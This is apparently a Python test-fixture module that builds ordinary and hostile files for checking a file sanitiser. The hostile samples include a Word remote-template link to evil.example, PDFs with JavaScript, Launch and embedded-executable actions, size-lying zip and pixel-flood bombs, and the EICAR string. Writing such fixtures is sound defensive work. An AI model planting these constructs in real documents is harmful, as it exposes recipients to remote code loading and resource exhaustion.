"""Files people may send: good ones as phones and offices make them, and hostile ones."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

import pikepdf
from PIL import Image

WORD_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"/>'
)
WORDS = (
    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    b'wordprocessingml/2006/main"><w:body><w:p><w:ins w:author="Fern Canary"><w:r><w:t>Family'
    b"</w:t></w:r></w:ins></w:p></w:body></w:document>"
)
CORE = (
    b'<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/'
    b'2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
    b"<dc:creator>Fern Canary</dc:creator></cp:coreProperties>"
)
EXTERNAL = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    b'2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **save: Any) -> bytes:
    """A small picture, red at the left and blue at the right."""
    sheet = Image.new("RGB", size, "blue")
    sheet.paste("red", (0, 0, size[0] // 2, size[1]))
    kept = io.BytesIO()
    sheet.save(kept, kind, **save)
    return kept.getvalue()


def from_a_phone() -> bytes:
    """A photo held upright, with camera, time and place in it."""
    notes = Image.Exif()
    notes[0x0110] = "CanaryPhone 9"  # model
    notes[0x9003] = "2026:11:21 10:00:00"
    notes[0x0112] = 6  # turn right to see it upright
    place = notes.get_ifd(0x8825)
    place[1], place[2] = "N", (52.0, 35.0, 7.0)
    place[3], place[4] = "W", (2.0, 7.0, 30.0)
    return picture(exif=notes.tobytes(), comment=b"Canary at home")


def png_with_words() -> bytes:
    """A picture with a text beside it."""
    from PIL.PngImagePlugin import PngInfo

    notes = PngInfo()
    notes.add_text("Author", "Fern Canary")
    return picture("PNG", pnginfo=notes)


def paper(**more: Any) -> bytes:
    """A PDF of one page by Fern Canary; ``more`` changes it before it is written."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.docinfo["/Author"] = "Fern Canary"
    with pdf.open_metadata() as told:
        told["dc:creator"] = ["Fern Canary"]
    for change in more.values():
        change(pdf)
    kept = io.BytesIO()
    pdf.save(
        kept, encryption=pikepdf.Encryption(owner="o", user="u") if more.get("locked") else None
    )
    return kept.getvalue()


def with_photo(pdf: pikepdf.Pdf) -> None:
    """Put a phone's photo on the page, as programs do that make PDFs of photos."""
    photo = pikepdf.Stream(pdf, from_a_phone())
    photo.Type, photo.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    photo.Width, photo.Height, photo.BitsPerComponent = 60, 40, 8
    photo.ColorSpace, photo.Filter = pikepdf.Name.DeviceRGB, pikepdf.Name.DCTDecode
    pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=photo))


def with_program(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def with_launch(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Annots = pikepdf.Array(
        [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                            A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"))]
    )  # fmt: skip


def with_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["x.exe"] = b"MZ"


def with_flood(pdf: pikepdf.Pdf) -> None:
    flood = pikepdf.Stream(pdf, b"\0")
    flood.Type, flood.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    flood.Width, flood.Height = 100_000, 100_000
    pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=flood))


def with_pages(pdf: pikepdf.Pdf) -> None:
    for _ in range(200):
        pdf.add_blank_page()


def locked(pdf: pikepdf.Pdf) -> None:
    """Nothing: the writing locks it."""


def packed(parts: dict[str, bytes], *, stored: bool = False) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return kept.getvalue()


def word(**more: bytes) -> bytes:
    """A Word document by Fern Canary; ``more`` adds parts by name (double underscore: a folder)."""
    parts = {
        "[Content_Types].xml": WORD_TYPES,
        "word/document.xml": WORDS,
        "docProps/core.xml": CORE,
    }
    return packed(parts | {k.replace("__", "/").replace("_", "."): v for k, v in more.items()})


def lying_bomb() -> bytes:
    """An archive whose directory says its parts are small, and they are not."""
    made = bytearray(word(word__media__image_bin2=b"\0" * (70 * 1024 * 1024)))
    at = 0
    big = struct.pack("<I", 70 * 1024 * 1024)
    while (at := made.find(big, at)) >= 0:
        made[at : at + 4] = struct.pack("<I", 10)
        at += 4
    return bytes(made)


def pixel_flood() -> bytes:
    """A PNG of a few bytes that says it has ten thousand million points."""

    def part(kind: bytes, content: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + crc

    head = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    sheet = part(b"IHDR", head) + part(b"IDAT", zlib.compress(b"\0" * 1000))
    return b"\x89PNG\r\n\x1a\n" + sheet + part(b"IEND", b"")


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
